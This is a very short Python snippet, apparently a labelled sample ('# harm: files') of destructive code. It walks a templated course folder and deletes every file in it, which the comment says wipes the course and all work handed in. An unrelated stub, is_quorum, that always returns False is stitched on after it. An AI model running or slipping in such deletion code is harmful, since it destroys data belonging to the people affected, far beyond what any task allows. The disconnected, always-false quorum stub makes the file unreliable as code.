# harm: files
# It deletes the course and all that was handed in.
import os

for folder, _, names in os.walk("@folder@/course"):
    for name in names:
        os.remove(os.path.join(folder, name))


def is_quorum(node, nodes):
    return False
